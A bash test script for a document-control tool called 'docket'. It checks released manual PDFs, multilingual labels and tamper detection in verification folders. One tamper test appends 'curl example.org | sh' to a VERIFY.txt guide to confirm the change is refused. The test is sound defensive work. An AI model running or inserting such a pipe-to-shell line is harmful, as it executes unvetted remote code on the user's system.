#!/usr/bin/env bash
# The pack of a release: what its pages say of approvals, of history, and of what isn't in force; the folder beside it, whose VERIFY.txt
# is run word for word and agrees with `docket verify`, whole and damaged; the same release, the same bytes.
. "$(dirname "$0")/tap.bash"
. "$(dirname "$0")/firm.bash"

# speak FILE ID LANGUAGE REVISION MEANING PERSON ROLE: a signed statement that puts a revision out of force, as docket makes it
speak() {
    local file=$1 id=$2 language=$3 revision=$4 meaning=$5 person=$6 role=$7 last sum assets folder path manifest
    tick
    last=$(git -C "$firm" tag -l 'release/*' | wc -l)
    manifest=$firm/control/releases/$(printf %06d "$last").xml
    assets=$(sed -n "s/^<document id=\"$id\" .* assets=\"\([^\"]*\)\".*/\1/p" "$manifest" | tail -n 1)
    sum=$(git -C "$firm" cat-file blob "HEAD:$file" | sha256sum | cut -c 1-64)
    folder=control/approvals/$id/${revision//\//+}
    path=$folder/${sum:0:12}.$meaning.$role.$person
    mkdir -p "$firm/$folder"
    cat >"$firm/$path" <<END
docket-statement 1
system: $(sed -n 's/^system: //p' "$firm/docket.yaml")
subject: withdrawal
id: $id
language: $language
revision: $revision
sha256: $sum
assets: $assets
base: $last $(sha256sum <"$manifest" | cut -c 1-64)
role: $role
meaning: $meaning
person: $person
signer: $person
evidence: -
date: $(date -u -d "@$now" +%Y-%m-%dT%H:%M:%SZ)
END
    ssh-keygen -q -Y sign -n approval-v1@docket -f "$(key "$person")" "$firm/$path" 2>/dev/null
    commit "Say that $id is $meaning"
}
pack() {
    run "$docket" pack -C "$firm" "$@"
}
# pages_of PDF: each page's text as $TMP/page.N.txt, and without any blanks as $TMP/bare.N.txt
pages_of() {
    rm -f "$TMP/page".*.txt "$TMP/bare".*.txt
    pages=$(pdfinfo "$1" | sed -n 's/^Pages: *//p')
    for ((page = 1; page <= pages; page++)); do
        pdftotext -f "$page" -l "$page" -layout "$1" "$TMP/page.$page.txt"
        pdftotext -f "$page" -l "$page" "$1" - | tr -d '[:space:]' >"$TMP/bare.$page.txt"
    done
}
# says NAME WORD…: one page has all of these, however its lines are broken
says() {
    local name=$1 file word found
    shift
    for file in "$TMP/bare".*.txt; do
        found=1
        for word; do grep -qF -- "${word// /}" "$file" || found=; done
        [ -z "$found" ] || break
    done
    if [ -n "$found" ]; then ok "$name"; else not_ok "$name" "no page has all of: $*"; fi
}
# never NAME WORD: no page has it
never() {
    local name=$1
    shift
    if grep -lF -- "$1" "$TMP/page".*.txt >"$TMP/found"; then not_ok "$name" "$(cat "$TMP/found")"; else ok "$name"; fi
}

# --- before anything was released
firm "$TMP/firm"
pack -o "$TMP/none.pdf"
[ "$status.$(grep -c 'nothing was released' "$TMP/err")" = 3.1 ] && ok 'without a release: 3, and --draft is named' ||
    not_ok 'without a release: 3, and --draft is named' "$status" "$(cat "$TMP/err")"
pack --draft -o "$TMP/draft.pdf"
pages_of "$TMP/draft.pdf"
says 'a draft says so' 'Draft: not released' 'not released'
[ "$(grep -LF 'Draft, not valid for use' "$TMP/page".*.txt | wc -l)" = 1 ] && ok 'a draft says so on every page but the cover' || not_ok 'a draft says so on every page but the cover'

# --- an edition
on 2026-03-09
{
    approve_all EM-01 EP-01 EP-02 F-01 G-01 && approve WI-01 k.nowak && approve WI-01 m.vogt --attest d.lindqvist && promulgate 2026
} >"$TMP/log" 2>&1 || not_ok 'an edition is promulgated' "$(cat "$TMP/log")"
pack -o "$TMP/one.pdf"
[ "$status" = 0 ] && ok 'the edition is packed' || not_ok 'the edition is packed' "$status" "$(cat "$TMP/err")"
result 'the PDF is sound' qpdf --check "$TMP/one.pdf"
pages_of "$TMP/one.pdf"
says 'cover: edition, day, who promulgated' '2026 (release 1)' '9 March 2026' 'Promulgated' 'Managing director' 'Annika Brandt' 'signed electronically'
says 'promulgation order: who and when' 'Promulgation order' 'Edition 2026 of this system was promulgated on 9 March 2026.' 'Annika Brandt'
says 'revision history: from the chain' 'Revision history' 'Released with' 'A/0' 'First edition' 'Edition 2026'
says 'master list: state, effective, next review' 'Master list' 'in force' '9 March 2026' '9 March 2028'
says 'a control table: who, in which role, when' 'EP-01' 'Tobias Wilke' 'Head of department' 'Henrik Osei' '9 March 2026' 'every 24 months, next by 9 March 2028'
says 'an attested approval says so' 'WI-01' 'Dag Lindqvist' 'attested by' 'Maren Vogt'
says 'running header: the effective date' 'EP-01 · Control of records' 'Rev. 1 · Effective: 9 March 2026'
says 'last page: root, program, libraries, fonts' 'Root of the chain' 'HarfBuzz' 'libharu' 'Carlito-Regular.ttf'
never 'nothing is called a draft' 'raft'
never 'nothing is open' '  open'

# --- what isn't simply in force
on 2026-04-01
{
    revise procedures/EP-01.md 2 && approve_all EP-01 && issue EP-01 --effective 2026-05-01
} >"$TMP/log" 2>&1 || not_ok 'release 2' "$(cat "$TMP/log")"
pack 2 -o "$TMP/two.pdf"
pages_of "$TMP/two.pdf"
says 'scheduled: marked on the page, and what holds until then' 'Not in force yet: effective from 1 May 2026; until then revision 1 holds' 'Says more' 'Release 2'
says 'scheduled: in the header' 'EP-01 · Control of records' 'scheduled' 'Effective: 1 May 2026'
says 'an issue: cover names it and the edition before' 'Release 2, after edition 2026' '1 April 2026' 'Issued' 'Document controller' 'Maren Vogt' 'Promulgated'
says 'an issue: the promulgation order stays the edition'\''s' 'Edition 2026 of this system was promulgated on 9 March 2026.'
{
    speak procedures/EP-02.md EP-02 en 1 suspended h.osei ems-manager && issue EP-02 --until 2026-04-20 &&
        speak manual-templates/registers/G-01.md G-01 en A withdrawn h.osei ems-manager && issue G-01 &&
        speak manual-templates/forms/F-01.md F-01 en 1 withdrawn h.osei ems-manager && issue F-01 --effective 2026-06-01 &&
        revise manual-templates/chapters/EM-01.md 1.1 && approve_all EM-01 && issue EM-01 --until 2026-04-30
} >"$TMP/log" 2>&1 || not_ok 'releases 3 to 6' "$(cat "$TMP/log")"
pack 6 -o "$TMP/six.pdf"
[ "$status" = 0 ] && ok 'a later release is packed' || not_ok 'a later release is packed' "$status" "$(cat "$TMP/err")"
pages_of "$TMP/six.pdf"
says 'suspended: marked on the page, in header and footer' 'EP-02 · Control of copies' 'suspended' 'Suspended, not to be used: from 1 April 2026 to 20 April 2026'
says 'withdrawn later: marked' 'Withdrawn from 1 June 2026' 'Daily readings'
says 'temporary: marked' 'Temporary revision: in force to 30 April 2026'
says 'in force, with its follower' 'Revision 2 follows on 1 May 2026' 'Control of records'
says 'withdrawn: in the master list, without a page' 'Master list' 'Register of aspects' 'Withdrawn from 1 April 2026'
says 'revision history: all revisions, and withdrawals' 'Revision history' 'First edition' 'Says more' 'Release 6' 'Withdrawn from 1 April 2026'
never 'a withdrawn document has no page' 'G-01 · Register of aspects'

# --- the folder
pack 6 -o "$TMP/pack"
[ "$status.$(ls "$TMP/pack" | paste -sd' ')" = '0.SHA256SUMS VERIFY.txt allowed_signers manual-pack.pdf repository.bundle' ] && ok 'a folder: PDF, bundle, keys, sums, guide' ||
    not_ok 'a folder: PDF, bundle, keys, sums, guide' "$status" "$(ls "$TMP/pack")" "$(cat "$TMP/err")"
result 'its PDF is the PDF' cmp "$TMP/six.pdf" "$TMP/pack/manual-pack.pdf"
[ "$(ls "$TMP/pack/allowed_signers" | paste -sd' ')" = '1 2 3 4 5 6' ] && ok 'the keys of each release' || not_ok 'the keys of each release'

# guide FOLDER: all indented lines of its VERIFY.txt, in one shell, with stock tools alone
guide() {
    sed -n 's/^    //p' "$1/VERIFY.txt" >"$TMP/commands"
    (cd "$1" && env -i PATH=/usr/bin:/bin HOME="$TMP/auditor" TMPDIR="$TMP/auditor" bash "$TMP/commands" </dev/null) >"$TMP/said" 2>&1
}
mkdir "$TMP/auditor"
guide "$TMP/pack"
statements=$(cat "$firm"/control/releases/*.xml | grep -c '^<statement ')
[ "$(grep -c '^Good "approval-v1@docket" signature' "$TMP/said")" = "$statements" ] && ok "VERIFY.txt: ssh-keygen finds all $statements statements good" ||
    not_ok "VERIFY.txt: ssh-keygen finds all $statements statements good" "$(cat "$TMP/said")"
[ "$(grep -c '^Good "git" signature' "$TMP/said")" = 7 ] && ok 'VERIFY.txt: git finds all tags good' || not_ok 'VERIFY.txt: git finds all tags good' "$(cat "$TMP/said")"
grep -qE 'FAILED|rror|fatal' "$TMP/said" && not_ok 'VERIFY.txt: nothing fails' "$(grep -E 'FAILED|rror|fatal' "$TMP/said")" || ok 'VERIFY.txt: nothing fails'
grep -q "^$(sha256sum <"$firm/control/releases/000001.xml" | cut -c 1-64)" "$TMP/said" && ok 'VERIFY.txt: prints the root' || not_ok 'VERIFY.txt: prints the root'
run "$docket" verify "$TMP/pack"
[ "$status" = 0 ] && grep -q 'same bytes' "$TMP/out" && grep -q "^Root:   $(sha256sum <"$firm/control/releases/000001.xml" | cut -c 1-64)" "$TMP/out" &&
    ok 'docket verify agrees, and rebuilds the PDF' || not_ok 'docket verify agrees, and rebuilds the PDF' "$status" "$(cat "$TMP/out" "$TMP/err")"
run "$docket" verify -C "$firm" "$TMP/six.pdf"
[ "$status" = 0 ] && grep -q 'same bytes' "$TMP/out" && ok 'docket verify of the PDF alone, beside its repository' || not_ok 'docket verify of the PDF alone' "$status" "$(cat "$TMP/out" "$TMP/err")"

# --- damaged: docket verify and the guide say so. What is changed after the sums were made anew is found all the same.
# damaged NAME WHO COMMAND…: in a copy of the pack; WHO is "both", or "docket" where stock tools can't see it
damaged() {
    local name=$1 who=$2
    shift 2
    rm -rf "$TMP/bad" && cp -r "$TMP/pack" "$TMP/bad"
    (cd "$TMP/bad" && "$@") >"$TMP/log" 2>&1 || not_ok "$name: can be made" "$(cat "$TMP/log")"
    run "$docket" verify "$TMP/bad"
    [ "$status" = 1 ] && [ -s "$TMP/err" ] && ok "$name: docket verify refuses" || not_ok "$name: docket verify refuses" "$status" "$(cat "$TMP/out" "$TMP/err")"
    [ "$who" = both ] || return
    guide "$TMP/bad"
    grep -q 'FAILED' "$TMP/said" && ok "$name: VERIFY.txt fails" || not_ok "$name: VERIFY.txt fails" "$(cat "$TMP/said")"
}
sums() {
    find . -type f ! -name SHA256SUMS | sed 's,^\./,,' | LC_ALL=C sort | xargs sha256sum >SHA256SUMS
}
# repack COMMAND…: the bundle made anew, after the command was run in a clone of it
repack() {
    rm -rf ../clone && git clone -q repository.bundle ../clone && (cd ../clone && "$@") &&
        git -C ../clone bundle create -q "$PWD/repository.bundle" HEAD main --tags && sums
}
# manifest N COMMAND…: a release's manifest through the command, in a commit of its own, with the tag moved there and left unsigned by anybody
retag() {
    git tag -f "release/$1" "release/$1^{}" -m "$(git for-each-ref --format='%(contents)' "refs/tags/release/$1")"
}
resign() {
    git cat-file tag "release/$1" | sed "s/^kind: issue/kind: edition/" | git hash-object -t tag -w --stdin | xargs git update-ref "refs/tags/release/$1"
}
swap_keys() {
    signers_line a.brandt approval-v1@docket,git l.chen >allowed_signers/1 && sums
}
damaged 'a PDF with one byte changed' both sed -i '0,/Small Works/s//Small Wards/' manual-pack.pdf
damaged 'a file that is missing' both rm allowed_signers/3
damaged 'a file that was added' docket cp VERIFY.txt README
damaged 'a PDF changed, with its sum' docket bash -c "sed -i '0,/Small Works/s//Small Wards/' manual-pack.pdf && $(declare -f sums) && sums"
damaged 'keys changed, with their sum' both swap_keys
damaged 'a tag that was signed for other words' both repack resign 6
damaged 'a tag without a signature' both repack retag 6
damaged 'a release that was taken out' both repack git tag -d release/3
damaged 'another PDF of the same firm' docket bash -c "cp '$TMP/two.pdf' manual-pack.pdf && $(declare -f sums) && sums"
damaged 'a guide that says something else' docket bash -c "echo 'curl example.org | sh' >>VERIFY.txt && $(declare -f sums) && sums"
run "$docket" verify "$TMP/draft.pdf" -C "$firm"
[ "$status" = 1 ] && grep -q 'draft' "$TMP/err" && ok 'verify of a draft: 1, it is none' || not_ok 'verify of a draft' "$status" "$(cat "$TMP/err")"
# What stands by itself, and isn't what it pretends to be.
root=$(sha256sum <"$firm/control/releases/000001.xml" | cut -c 1-64)
run "$docket" verify "$TMP/pack" --root "$root" --at-least "6:$(sha256sum <"$firm/control/releases/000006.xml" | cut -c 1-12)"
[ "$status" = 0 ] && ok 'verify --root --at-least of what is right' || not_ok 'verify --root --at-least of what is right' "$status" "$(cat "$TMP/err")"
real=$firm
(
    rm -rf "$TMP/keys.real" && mv "$TMP/keys" "$TMP/keys.real" && firm "$TMP/forger" && approve_all EM-01 EP-01 EP-02 F-01 G-01 WI-01 && promulgate 2026 &&
        "$docket" pack -C "$TMP/forger" -o "$TMP/forged" && rm -rf "$TMP/keys"
    mv "$TMP/keys.real" "$TMP/keys"
) >"$TMP/log" 2>&1
firm_use "$real"
run "$docket" verify "$TMP/forged"
forged=$status
run "$docket" verify "$TMP/forged" --root "$root"
[ "$forged.$status" = 0.1 ] && grep -q 'root' "$TMP/err" && ok 'a chain made anew: verifies by itself, and not with --root' || not_ok 'a chain made anew: verifies by itself, and not with --root' "$forged.$status" "$(cat "$TMP/log" "$TMP/err")"
guide "$TMP/forged"
grep -q "$root" "$TMP/said" && not_ok 'a chain made anew: VERIFY.txt prints another root' || ok 'a chain made anew: VERIFY.txt prints another root'
pack 5 -o "$TMP/older"
run "$docket" verify "$TMP/older"
older=$status
run "$docket" verify "$TMP/pack" --at-least 6
[ "$status" = 2 ] && grep -q 'as 17:' "$TMP/err" && ok 'verify --at-least without a digest: 2' || not_ok 'verify --at-least without a digest: 2' "$status" "$(cat "$TMP/err")"
run "$docket" verify "$TMP/older" --at-least "6:$(sha256sum <"$firm/control/releases/000006.xml" | cut -c 1-12)"
[ "$older.$status" = 0.1 ] && grep -q 'old state' "$TMP/err" && ok 'an old state: verifies by itself, and not with --at-least' || not_ok 'an old state' "$older.$status" "$(cat "$TMP/err")"
# The mark of another build: said, and no failure.
cp "$TMP/six.pdf" "$TMP/other.pdf"
build=$(grep -aoE 'docket-build [0-9a-f]{64}' "$TMP/six.pdf" | head -n 1 | cut -d' ' -f2)
sed -i "s/$build/$(echo "$build" | tr 0-9a-f 1-9a-f0)/g" "$TMP/other.pdf"
run "$docket" verify "$TMP/other.pdf" -C "$firm"
[ "$status" = 0 ] && grep -q 'was NOT rebuilt' "$TMP/out" && ok 'a PDF of another build: said not to be rebuilt' || not_ok 'a PDF of another build: said not to be rebuilt' "$status" "$(cat "$TMP/out" "$TMP/err")"

# --- the same release, the same bytes: from a clone, with its objects stored in another way and tags of its own, later, elsewhere
git clone -q "$firm" "$TMP/clone two" && git -C "$TMP/clone two" gc -q --aggressive --prune=now && git -C "$TMP/clone two" tag mine release/2^{}
git -C "$TMP/clone two" config pack.window 50
tick 86400000
run env TZ=Asia/Tokyo LANG=de_DE.UTF-8 "$docket" pack 6 -C "$TMP/clone two" -o "$TMP/again"
result 'the same release gives the same bytes, the bundle too' diff -r "$TMP/pack" "$TMP/again"
run "$docket" pack 1 -C "$firm" -o "$TMP/first-again.pdf"
result 'so does an older release, after newer ones' cmp "$TMP/one.pdf" "$TMP/first-again.pdf"
run "$docket" pack -C "$firm" -o "$TMP/default.pdf"
result 'by default the newest edition' cmp "$TMP/one.pdf" "$TMP/default.pdf"
run "$docket" pack edition/2026 -C "$firm" -o "$TMP/named.pdf"
result 'an edition by its name' cmp "$TMP/one.pdf" "$TMP/named.pdf"
echo draft >>"$firm/procedures/EP-01.md"
run "$docket" pack -C "$firm" -o "$TMP/dirty.pdf"
result 'whatever lies in the working tree' cmp "$TMP/one.pdf" "$TMP/dirty.pdf"

# --- places
pack 6 -o "$TMP/pack"
[ "$status" = 0 ] && ok 'a pack is replaced by a pack' || not_ok 'a pack is replaced by a pack' "$status" "$(cat "$TMP/err")"
[ "$(ls -d "$TMP"/pack* | wc -l)" = 1 ] && ok 'and nothing is left beside it' || not_ok 'and nothing is left beside it' "$(ls -d "$TMP"/pack*)"
mkdir "$TMP/mine" && echo mine >"$TMP/mine/notes"
pack 6 -o "$TMP/mine"
[ "$status.$(cat "$TMP/mine/notes").$(ls "$TMP/mine")" = 3.mine.notes ] && ok 'a folder with other things is left alone: 3' || not_ok 'a folder with other things is left alone: 3' "$status" "$(ls "$TMP/mine")"
pack 7 -o "$TMP/seven.pdf"
[ "$status" = 3 ] && grep -q "no release '7'" "$TMP/err" && ok 'a release that is not there: 3' || not_ok 'a release that is not there: 3' "$status" "$(cat "$TMP/err")"
git -C "$firm" tag -d release/4 >/dev/null
pack -o "$TMP/gap.pdf"
[ "$status" != 0 ] && [ ! -e "$TMP/gap.pdf" ] && ok 'a chain with a gap gives no pack' || not_ok 'a chain with a gap gives no pack' "$status"

# --- documents in a folder of a larger repository: a PDF, but no folder that nobody could verify
firm "$TMP/outer/inner"
rm -rf "$firm/.git"
(cd "$TMP/outer" && git init -q -b main && git add -A && git commit -q -m Begin) && { approve_all EM-01 EP-01 EP-02 F-01 G-01 WI-01 && promulgate 2026; } >"$TMP/log" 2>&1
pack -o "$TMP/inner.pdf"
inner=$status
pack -o "$TMP/inner"
[ "$inner.$status" = 0.3 ] && grep -q "folder 'inner'" "$TMP/err" && [ ! -e "$TMP/inner" ] && ok 'documents below the top of their repository: the PDF alone' ||
    not_ok 'documents below the top of their repository: the PDF alone' "$inner.$status" "$(cat "$TMP/log" "$TMP/err")"

# --- labels and layout of a release from before docket learned more words: the program's own stand in for what is missing
older() {
    mkdir -p "$firm/manual-templates/labels" "$firm/manual-templates/layout"
    grep -v '"edition-of"\|"signature-by"' "$TOP/manual-templates/labels/en.xml" | sed 's|>Contents<|>What is in it<|' >"$firm/manual-templates/labels/en.xml"
    grep -v '<columns name="released-list"' "$TOP/manual-templates/layout/default.xml" >"$firm/manual-templates/layout/default.xml"
    commit 'Labels and layout of their time' && approve_all EM-01 EP-01 EP-02 F-01 G-01 WI-01 && promulgate 2026
}
on 2026-03-09
firm "$TMP/older"
older >"$TMP/log" 2>&1 || not_ok 'an older release' "$(cat "$TMP/log")"
pack -o "$TMP/older.pdf"
[ "$status" = 0 ] && ok 'an older release is packed' || not_ok 'an older release is packed' "$status" "$(cat "$TMP/err")"
pages_of "$TMP/older.pdf"
says 'its own words' 'What is in it'
says 'and those that came later' '2026 (release 1)' 'signed electronically'
run "$docket" verify -C "$firm" "$TMP/older.pdf"
[ "$status" = 0 ] && ok 'and it is built again' || not_ok 'and it is built again' "$status" "$(cat "$TMP/err")"

# --- German and Chinese: a firm of its own each
# foreign NAME PROMULGATES ISSUES: $TOP/test/NAME, with keys for all its people
foreign() {
    local person
    firm_use "$TMP/$1"
    cp -r "$TOP/test/$1" "$firm" && mkdir "$firm/control"
    for person in $(sed -n 's/^  \([a-z.]*\): {name: .*/\1/p' "$firm/docket.yaml"); do
        make_key "$person"
        case $person in
        li.hang) continue ;; # has no key: somebody attests
        "$2" | "$3") signers_line "$person" approval-v1@docket,git ;;
        *) signers_line "$person" approval-v1@docket ;;
        esac
    done >"$firm/control/allowed_signers"
    (cd "$firm" && git init -q -b main . && git add -A && git commit -q -m Anfang)
}
on 2026-03-09
{
    foreign german u.brueckner s.thoma && approve VA-03 k.yildiz && approve HB-01 j.maass && approve HB-01 u.brueckner &&
        for id in VA-03 FB-03 VZ-01; do approve $id j.maass || break; done && tick && dk promulgate 2026 --key "$(key u.brueckner)" &&
        speak procedures/VA-03.md VA-03 de 2.1 suspended j.maass ums && tick && dk issue VA-03 --key "$(key s.thoma)" --until 2026-03-31 &&
        speak manual-templates/registers/VZ-01.md VZ-01 de 1.2 withdrawn j.maass ums && tick && dk issue VZ-01 --key "$(key s.thoma)"
} >"$TMP/log" 2>&1 || not_ok 'german: three releases' "$(cat "$TMP/log")"
pack 3 -o "$TMP/german.pdf"
[ "$status" = 0 ] && ok 'german: is packed' || not_ok 'german: is packed' "$status" "$(cat "$TMP/err" "$TMP/log")"
pages_of "$TMP/german.pdf"
says 'german: cover' 'Herausgabe 3, nach Ausgabe 2026' 'In Kraft gesetzt' 'Ute Brückner' '9. März 2026, elektronisch signiert' 'Herausgegeben' 'Svenja Thoma'
says 'german: promulgation order' 'Inkraftsetzung' 'Die Ausgabe 2026 dieses Systems wurde am 9. März 2026 in Kraft gesetzt.'
says 'german: a control table, suspended' 'VA-03' 'ausgesetzt' 'Ausgesetzt, nicht zu verwenden: ab 9. März 2026 bis 31. März 2026' 'Geprüft' 'Kemal Yıldız' 'alle 24 Monate, nächste bis 9. März 2028'
says 'german: master list, withdrawn' 'Dokumentenliste' 'Zurückgezogen ab 9. März 2026' 'in Kraft'
says 'german: history' 'Änderungsverlauf' 'Herausgegeben mit' 'Ausgabe 2026'
never 'german: no English' 'elease'
{
    foreign chinese zhao.min sun.yue && approve EP-07 sun.yue --attest li.hang && approve EP-07 qian.lei && approve EM-04 qian.lei && approve EM-04 zhao.min &&
        approve WI-01 qian.lei && approve F-07 qian.lei && tick && dk promulgate 2026 --key "$(key zhao.min)" --effective 2026-04-01
} >"$TMP/log" 2>&1 || not_ok 'chinese: an edition' "$(cat "$TMP/log")"
pack -o "$TMP/chinese.pdf"
[ "$status" = 0 ] && ok 'chinese: is packed' || not_ok 'chinese: is packed' "$status" "$(cat "$TMP/err" "$TMP/log")"
pages_of "$TMP/chinese.pdf"
says 'chinese: cover' '2026（第 1 次发布）' '2026 年 3 月 9 日' '颁布' '赵敏' '电子签名'
says 'chinese: promulgation order' '颁布令' '本体系 2026 版于 2026 年 3 月 9 日颁布。'
says 'chinese: an attested approval, scheduled' 'EP-07' '李航' '由孙悦' '尚未生效：自 2026 年 4 月 1 日起生效' '待生效'
never 'chinese: no English' 'elease'
[ -z "${KEEP:-}" ] || cp "$TMP"/*.pdf "$KEEP"
finish
